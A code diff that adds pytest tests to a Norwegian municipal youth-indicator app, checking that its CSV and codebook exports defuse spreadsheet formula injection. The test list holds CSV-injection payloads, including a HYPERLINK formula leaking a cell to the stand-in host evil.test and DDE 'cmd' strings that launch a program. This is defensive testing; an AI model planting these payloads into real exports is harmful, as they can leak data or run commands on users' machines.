@@ -1,10 +1,12 @@
 import csv
+import dataclasses
 import io
 import json
 
 import polars as pl
 import pytest
 
+from ungkultur.indicators import research
 from ungkultur.indicators.definitions import INDICATORS
 from ungkultur.indicators.models import IndicatorValue
 from ungkultur.indicators.tests.dashboard_data import arendal_values
@@ -122,3 +124,44 @@ def test_a_bad_term_answers_400_in_norwegian(client, personas, values):
     response = client.get("/nasjonalt/indikatorer/data/indikatorer.csv", {"term": "2024"})
     assert response.status_code == 400
     assert "Ukjent semester «2024»" in response.content.decode()
+
+
+# Text a spreadsheet would run as a formula (OWASP's list).
+ATTACKS = [
+    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
+    "+1+cmd|' /C calc'!A0",
+    "-3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_csv_makes_text_that_would_start_a_formula_inert(client, personas, values):
+    personas.arendal.name = ATTACKS[0]
+    personas.arendal.save(update_fields=["name"])
+    stored = list(IndicatorValue.objects.filter(suppressed=False).order_by("pk")[: len(ATTACKS)])
+    for value, text in zip(stored, ATTACKS, strict=True):
+        value.breakdown = text
+        value.value = -3.5
+        value.save(update_fields=["breakdown", "value"])
+    client.force_login(personas.researcher)
+    text = client.get("/nasjonalt/indikatorer/data/indikatorer.csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {r["municipality_name"] for r in rows} == {"'" + ATTACKS[0]}
+    assert {"'" + attack for attack in ATTACKS} <= {r["breakdown"] for r in rows}
+    # A number is a number, written unquoted; text is quoted (Excel in Norway splits on ";").
+    assert sum(r["value"] == "-3.5" for r in rows) == len(ATTACKS)
+    assert ",-3.5," in text and "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in text
+
+
+def test_the_codebook_csv_makes_text_that_would_start_a_formula_inert(
+    client, personas, monkeypatch
+):
+    first, *rest = research.INDICATORS
+    monkeypatch.setattr(
+        research, "INDICATORS", [dataclasses.replace(first, definition=ATTACKS[3]), *rest]
+    )
+    client.force_login(personas.researcher)
+    rows = _rows(client.get("/nasjonalt/indikatorer/data/kodebok.csv"))
+    assert rows[0]["definition"] == "'" + ATTACKS[3]
